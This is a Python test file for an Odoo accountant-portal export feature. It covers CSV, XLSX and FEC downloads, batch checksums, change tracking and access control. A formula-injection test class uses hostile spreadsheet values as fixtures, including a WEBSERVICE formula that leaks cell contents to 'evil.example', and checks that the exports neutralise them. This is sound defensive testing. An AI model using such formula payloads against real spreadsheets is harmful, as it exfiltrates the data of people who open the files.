# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import csv
import hashlib
import io
import re
import zipfile
from datetime import date, datetime
from unittest.mock import patch

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError
from odoo.tests import JsonRpcException, new_test_user, tagged
from odoo.tools import mute_logger

from ..models.accountant_portal.accountant_batch_export import FEC_WIZARD
from .test_accountant_portal import AccountantPortalCommon

EXPORT_MODULE = "odoo.addons.invoice_workflow_audit.models.accountant_portal.accountant_batch_export"

HEADER = [
    "Journal",
    "Entry",
    "Date",
    "Account Code",
    "Account",
    "Partner",
    "Label",
    "Debit",
    "Credit",
    "Currency",
    "Amount in Currency",
    "Matching Number",
]


class AccountantExportsCommon(AccountantPortalCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # A draft dated in January: never exported.
        cls.january_draft = cls.init_invoice(
            "out_invoice", partner=cls.partner_a, invoice_date="2026-01-05", amounts=[55], taxes=[]
        )
        cls.january_draft.line_ids.filtered("display_type").name = "IWA DRAFT LINE"

    def setUp(self):
        super().setUp()
        self.authenticate(self.accountant.login, self.accountant.login)

    def _download(self, file_format="csv", status=200, company=None, **period):
        company = company or self.company
        data = {"csrf_token": self._csrf(self._url("/exports")), "file_format": file_format}
        data.update(period or {"period": "month", "month": "2026-01"})
        response = self.url_open(f"/my/accounting/{company.id}/exports/download", data=data)
        self.assertEqual(response.status_code, status)
        return response

    def _january_lines(self, date_from="2026-01-01", date_to="2026-01-31"):
        return (
            self.env["account.move.line"]
            .sudo()
            .search(
                [
                    ("company_id", "=", self.company.id),
                    ("parent_state", "=", "posted"),
                    ("date", ">=", date_from),
                    ("date", "<=", date_to),
                ]
            )
        )

    def _batches(self):
        self.env.invalidate_all()
        return self.env["invoice.accountant.batch"].sudo().search([], order="id")


@tagged("post_install", "-at_install")
class TestAccountantExports(AccountantExportsCommon):
    def test_csv_download_and_its_batch(self):
        page = self._get(self._url("/exports"))
        self.assertIn("No batch collected yet", page)
        self.assertIn('value="csv"', page)
        self.assertNotIn('value="fec"', page, "FEC: French companies only")

        response = self._download("csv")
        self.assertIn("attachment;", response.headers["Content-Disposition"])
        self.assertIn(".csv", response.headers["Content-Disposition"])
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(rows[0], HEADER)
        lines = self._january_lines()
        self.assertEqual(len(rows) - 1, len(lines))
        self.assertEqual({row[1] for row in rows[1:]}, set(lines.move_id.mapped("name")))
        self.assertTrue(all("2026-01-01" <= row[2] <= "2026-01-31" for row in rows[1:]))
        self.assertNotIn("IWA DRAFT LINE", response.text)
        self.assertNotIn(self.foreign_partner.name, response.text)
        # The invoice's receivable line with its code, partner and matching number.
        receivable = self.invoice_paid.line_ids.filtered(
            lambda line: line.account_id.account_type == "asset_receivable"
        )
        row = next(
            row for row in rows if row[1] == self.invoice_paid.name and row[3] == receivable.account_id.code
        )
        self.assertEqual(row[5], self.partner_a.display_name)
        self.assertEqual(float(row[7]), 1000.0)
        self.assertTrue(row[11], "the paid invoice's receivable is matched")

        batch = self._batches()
        self.assertEqual(len(batch), 1)
        self.assertEqual(
            (batch.company_id, batch.file_format, batch.period_label, batch.state, batch.user_id),
            (self.company, "csv", "2026-01", "collected", self.accountant),
        )
        self.assertEqual(str(batch.date_from), "2026-01-01")
        self.assertEqual(str(batch.date_to), "2026-01-31")
        self.assertEqual(batch.line_count, len(lines))
        self.assertEqual(batch.move_count, len(lines.move_id))
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertEqual(response.headers["X-Content-SHA256"], batch.checksum)
        self.assertEqual(batch.changed_count, 0)
        # Through the one logging path.
        row = self._log_rows(batch.sudo(), action_type="entries_exported")
        self.assertEqual(len(row), 1)
        self.assertEqual(row.user_id, self.accountant)
        self.assertIn(batch.checksum, row.description)
        # Named by company, period and format, not by its technical id.
        self.assertEqual(row.document_name, f"{self.company.name} — {batch.period_label} — CSV")
        # Listed on the page.
        page = self._get(self._url("/exports"))
        self.assertIn("o_accountant_batch", page)
        self.assertIn(batch.checksum, page)

    def test_batches_of_items_cover_the_period_once(self):
        """The keyset paging (5,000 items at a time in production) on 3 at a time:
        every item once, in order, whatever the batch boundaries."""
        whole = self._download("csv").content
        with patch(f"{EXPORT_MODULE}.EXPORT_BATCH_SIZE", 3):
            paged = self._download("csv").content
        self.assertEqual(paged, whole)
        first, second = self._batches()
        self.assertEqual((first.checksum, first.line_count), (second.checksum, second.line_count))

    def test_exports_page_in_french(self):
        fr = self.env["res.lang"]._activate_lang("fr_FR")
        self.env["ir.module.module"]._load_module_terms(
            ["portal", "invoice_workflow_audit"], [fr.code], overwrite=True
        )
        self.accountant.lang = "fr_FR"
        self.authenticate(self.accountant.login, self.accountant.login)
        page = self._get(self._url("/exports"))
        self.assertIn("Télécharger", page)
        self.assertIn("Aucun lot collecté", page)

    def test_xlsx_download(self):
        response = self._download("xlsx", period="quarter", year="2026", quarter="1")
        workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
        rows = list(workbook.active.iter_rows(values_only=True))
        self.assertEqual(list(rows[0]), HEADER)
        lines = self._january_lines("2026-01-01", "2026-03-31")
        batch = self._batches()
        # Q1: January, the open invoice of February, the bank line of March.
        self.assertIn(self.invoice_open.line_ids[0], lines)
        self.assertIn(self.bank_line.move_id.line_ids[0], lines)
        self.assertEqual(len(rows) - 1, len(lines))
        self.assertEqual(batch.line_count, len(rows) - 1)
        self.assertEqual(batch.period_label, "2026-Q1")
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertIn(self.invoice_open.name, {row[1] for row in rows[1:]})

    def test_periods(self):
        self._download("csv", period="fiscal_year", year="2026")
        self._download("csv", period="custom", date_from="2026-01-10", date_to="2026-01-12")
        fiscal_year, custom = self._batches()
        self.assertEqual((str(fiscal_year.date_from), str(fiscal_year.date_to)), ("2026-01-01", "2026-12-31"))
        self.assertEqual(custom.move_count, 1, "the invoice of 10 January")
        # A period that cannot be read: nothing downloaded, said so.
        response = self._download("csv", period="custom", date_from="2026-02-01", date_to="2026-01-01")
        self.assertIn("The period ends before it starts", response.text)
        response = self._download("csv", period="month", month="garbage")
        self.assertIn("Choose a valid Month", response.text)
        self.assertEqual(len(self._batches()), 2)

    def test_changed_since_collected(self):
        self._download("csv")
        batch = self._batches()
        self.assertFalse(self._get(self._url("/exports")).count("Changed since collected"))
        # The back office resets one January entry, deletes another and
        # edits a February one (not in the period), after the download.
        self.authenticate(self.admin_user.login, self.admin_user.login)
        self._call_kw("account.move", "button_draft", self.bill.ids)
        self._call_kw("account.move", "button_draft", self.vendor_refund.ids)
        self._call_kw("account.move", "unlink", self.vendor_refund.ids)
        self._call_kw("account.move", "write", self.invoice_open.ids, {"ref": "IWA FEB EDIT"})
        self.env.invalidate_all()
        self.assertFalse(self.vendor_refund.exists())

        self.assertEqual(batch.changed_count, 2)
        self.assertIn(f"{self.bill.name} (2026-01-15): reset to draft", batch.changed_summary)
        self.assertIn("deleted", batch.changed_summary)
        self.authenticate(self.accountant.login, self.accountant.login)
        page = self._get(self._url("/exports"))
        self.assertIn("Changed since collected: 2 entries", page)
        self.assertIn(self.bill.name, page)
        # A new batch of the period starts clean again.
        self._download("csv")
        self.assertEqual(self._batches()[-1].changed_count, 0)

    def test_changed_entries_listed_are_bounded(self):
        # A period's batch may have thousands of entries changed since: the
        # page counts them all and lists the first twenty.
        self._download("csv")
        batch = self._batches()
        revenue = self.company_data["default_account_revenue"]
        receivable = self.company_data["default_account_receivable"]
        # Posted after the download, from the back office (a request of its own).
        self.authenticate(self.admin_user.login, self.admin_user.login)
        entry_ids = self._call_kw(
            "account.move",
            "create",
            [
                {
                    "move_type": "entry",
                    "date": "2026-01-20",
                    "ref": f"IWA LATE {i:02d}",
                    "line_ids": [
                        Command.create({"account_id": receivable.id, "balance": 1}),
                        Command.create({"account_id": revenue.id, "balance": -1}),
                    ],
                }
                for i in range(25)
            ],
        )
        self._call_kw("account.move", "action_post", entry_ids)
        self.authenticate(self.accountant.login, self.accountant.login)
        self.env.invalidate_all()
        entries = self.env["account.move"].browse(entry_ids)
        changes = batch._changed_entries(limit=3)[batch.id]
        self.assertEqual((changes["count"], len(changes["rows"])), (25, 3))
        self.assertEqual(batch.changed_count, 25)
        page = self._get(self._url("/exports"))
        self.assertIn("Changed since collected: 25 entries", page)
        self.assertEqual(sum(entry.name in page for entry in entries), 20)
        self.assertIn("and 5 more", page)

    def test_mark_integrated(self):
        self._download("csv")
        batch = self._batches()
        url = self._url(f"/exports/{batch.id}/integrated")
        with mute_logger("odoo.http"):
            self.assertEqual(self.url_open(url, data={"x": "1"}).status_code, 400, "no CSRF token")
        self.assertEqual(self._batches().state, "collected")
        response = self.url_open(url, data={"csrf_token": self._csrf(self._url("/exports"))})
        self.assertEqual(response.status_code, 200)
        self.assertIn("marked as integrated", response.text)
        batch = self._batches()
        self.assertEqual((batch.state, batch.integrated_user_id), ("integrated", self.accountant))

    def test_outsiders_and_other_companies_get_404(self):
        self._download("csv")
        token = self._csrf(self._url("/exports"))
        batch = self._batches()
        other = f"/my/accounting/{self.other_company.id}"
        self.assertEqual(self.url_open(other + "/exports").status_code, 404)
        data = {"csrf_token": token, "file_format": "csv", "period": "month", "month": "2026-01"}
        response = self.url_open(other + "/exports/download", data=data)
        self.assertEqual(response.status_code, 404)
        self.assertNotIn(self.foreign_partner.name, response.text)
        # The batch of the granted company through the other company's URL.
        response = self.url_open(other + f"/exports/{batch.id}/integrated", data={"csrf_token": token})
        self.assertEqual(response.status_code, 404)
        # An unknown format (FEC for a company that is not French).
        self.assertEqual(
            self.url_open(self._url("/exports/download"), data=dict(data, file_format="fec")).status_code, 404
        )
        # The ORM gives portal users no batch at all.
        with mute_logger("odoo.http"), self.assertRaises(JsonRpcException):
            self._call_kw("invoice.accountant.batch", "search_read", [], ["checksum"])
        self.authenticate(self.outsider.login, self.outsider.login)
        self.assertEqual(self.url_open(self._url("/exports")).status_code, 404)
        self.assertEqual(len(self._batches()), 1)

    def test_nobody_writes_a_batch(self):
        self._download("csv")
        batch = self._batches()
        manager_batch = batch.with_user(self.admin_user)
        self.assertEqual(manager_batch.move_count, batch.move_count, "accounting managers read")
        with self.assertRaises(AccessError):
            manager_batch.write({"move_count": 0})
        for values in ({"checksum": "0" * 64}, {"line_count": 1}, {"state": "integrated"}):
            with self.assertRaises(AccessError):
                batch.sudo().write(values)
        with self.assertRaises(AccessError):
            self.env["invoice.accountant.batch"].sudo().create(
                {"company_id": self.company.id, "date_from": "2026-01-01", "date_to": "2026-01-31"}
            )
        with self.assertRaises(AccessError):
            batch.sudo().unlink()
        with self.assertRaises(AccessError):
            batch.with_user(self.invoice_user).read(["checksum"])
        self.assertEqual(self._batches().checksum, batch.checksum)


@tagged("post_install", "-at_install")
class TestAccountantExportsFec(AccountantExportsCommon):
    """FEC comes from Odoo's own wizard (l10n_fr_account), offered only when the
    registry has it and the company is French."""

    def _make_french(self):
        france = self.env.ref("base.fr")
        self.company.write({"country_id": france.id, "account_fiscal_country_id": france.id})

    def test_fec_only_where_the_wizard_and_a_french_company_are(self):
        Export = self.env["invoice.accountant.batch.export"]
        self.assertNotIn("fec", Export._formats(self.company))
        self._make_french()
        self.assertEqual("fec" in Export._formats(self.company), FEC_WIZARD in self.env)

    def test_fec_download_is_odoo_own(self):
        self._make_french()
        if FEC_WIZARD not in self.env:
            # Without l10n_fr_account (./dev test): a French company gets no
            # FEC either, and the route refuses it. The download itself is
            # tested where the localisation is installed.
            self.assertNotIn('value="fec"', self._get(self._url("/exports")))
            self._download("fec", status=404)
            self.assertFalse(self._batches())
            return
        lock_date = self.company.fiscalyear_lock_date
        self.assertIn('value="fec"', self._get(self._url("/exports")))
        response = self._download("fec")
        batch = self._batches()
        self.assertEqual(batch.file_format, "fec")
        content = response.content.decode()
        # The wizard's own file: its header, its name, nothing but posted entries.
        expected = (
            self.env[FEC_WIZARD]
            .with_company(self.company)
            .with_context(allowed_company_ids=self.company.ids)
            .create({"date_from": "2026-01-01", "date_to": "2026-01-31", "test_file": True})
            .generate_fec()
        )
        self.assertEqual(response.content, expected["file_content"])
        self.assertTrue(content.startswith("JournalCode|JournalLib|EcritureNum|"))
        self.assertIn(self.invoice_paid.name, content)
        self.assertNotIn("IWA DRAFT LINE", content)
        self.assertEqual(batch.file_name, expected["file_name"])
        self.assertEqual(batch.checksum, hashlib.sha256(response.content).hexdigest())
        self.assertEqual(batch.line_count, len(self._january_lines()))
        self.env.invalidate_all()
        self.assertEqual(self.company.fiscalyear_lock_date, lock_date, "a download never locks the books")


@tagged("post_install", "-at_install")
class TestAccountantExportsFormulaInjection(AccountantExportsCommon):
    """Partner names (set by customers on /my/account) and line labels (set by
    any invoicing user) end up in the file the accountant opens in a
    spreadsheet: they must stay text there, never become formulas."""

    LABELS = ("@SUM(1+1)", "+1+2", "-2+3")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Partner = cls.env["res.partner"]
        cls.sum_partner = Partner.create({"name": "=1+1"})
        cls.link_partner = Partner.create({"name": '=HYPERLINK("http://evil.example","x")'})
        cls.labelled = cls._january_invoice(cls.sum_partner, [10, 20, 30], cls.LABELS)
        cls._january_invoice(cls.link_partner, [40], ["http://evil.example/click"])

    @classmethod
    def _january_invoice(cls, partner, amounts, labels):
        invoice = cls.init_invoice(
            "out_invoice", partner=partner, invoice_date="2026-01-28", amounts=amounts, taxes=[]
        )
        for line, label in zip(invoice.invoice_line_ids, labels, strict=True):
            line.name = label
        invoice.action_post()
        return invoice

    def _csv_rows(self):
        return list(csv.reader(io.StringIO(self._download("csv").content.decode("utf-8-sig"))))

    def _formulas(self, sheet_xml):
        return re.findall(r"<f[ >].*?</f>", sheet_xml)

    def _xlsx(self):
        content = self._download("xlsx").content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
        return sheet_xml, rows

    def test_csv_text_cells_are_neutralised(self):
        rows = self._csv_rows()
        partners = {row[5] for row in rows[1:]}
        self.assertIn("'=1+1", partners)
        self.assertIn('\'=HYPERLINK("http://evil.example","x")', partners)
        labels = {row[6] for row in rows[1:]}
        self.assertLessEqual({"'@SUM(1+1)", "'+1+2", "'-2+3"}, labels)
        self.assertIn("http://evil.example/click", labels, "text that is no formula is left as is")
        self.assertIn(self.partner_a.display_name, partners)
        # No text cell opens a formula; amounts are numbers, a negative one unquoted.
        for row in rows[1:]:
            for index, cell in enumerate(row):
                if index in (7, 8, 10):
                    float(cell)
                else:
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), row)
        income = next(row for row in rows if row[6] == "'+1+2")
        self.assertEqual((income[7], income[8], income[10]), ("0.0", "20.0", "-20.0"))
        self.assertEqual(income[1], self.labelled.name)

    def test_xlsx_has_no_formula_and_keeps_text_and_numbers(self):
        sheet_xml, rows = self._xlsx()
        self.assertEqual(self._formulas(sheet_xml), [])
        partners = {row[5] for row in rows[1:]}
        self.assertLessEqual({"=1+1", '=HYPERLINK("http://evil.example","x")'}, partners)
        self.assertLessEqual({*self.LABELS, "http://evil.example/click"}, {row[6] for row in rows[1:]})
        # Amounts stay numbers the accountant can sum, dates stay dates.
        income = next(row for row in rows if row[6] == "+1+2")
        self.assertEqual((income[7], income[8], income[10]), (0, 20, -20))
        self.assertIsInstance(income[2], datetime)
        self.assertEqual(income[2].date(), date(2026, 1, 28))
        for row in rows[1:]:
            self.assertTrue(all(isinstance(row[index], int | float) for index in (7, 8, 10)), row)
        # No hyperlink either (strings_to_urls off).
        self.assertNotIn("<hyperlink", sheet_xml)

    def test_customer_renamed_on_my_account(self):
        """The review's path: a portal customer names itself with a formula on
        /my/account, is invoiced, and the accountant downloads the period."""
        name = '=WEBSERVICE("http://evil.example/leak?"&A2&B2)'
        customer = new_test_user(self.env, login="iwa_formula_customer", groups="base.group_portal")
        self.authenticate(customer.login, customer.login)
        response = self.url_open(
            "/my/account",
            data={
                "csrf_token": self._csrf("/my/account"),
                "name": name,
                "email": "customer@example.com",
                "phone": "0102030405",
                "street": "1 rue de la Paix",
                "city": "Paris",
                "country_id": str(self.env.ref("base.fr").id),
            },
        )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(customer.partner_id.name, name, "the portal saved the name")
        self._january_invoice(customer.partner_id, [70], ["Consulting"])

        self.authenticate(self.accountant.login, self.accountant.login)
        sheet_xml, rows = self._xlsx()
        self.assertEqual(self._formulas(sheet_xml), [])
        self.assertIn(name, {row[5] for row in rows[1:]})
        self.assertIn("'" + name, {row[5] for row in self._csv_rows()[1:]})
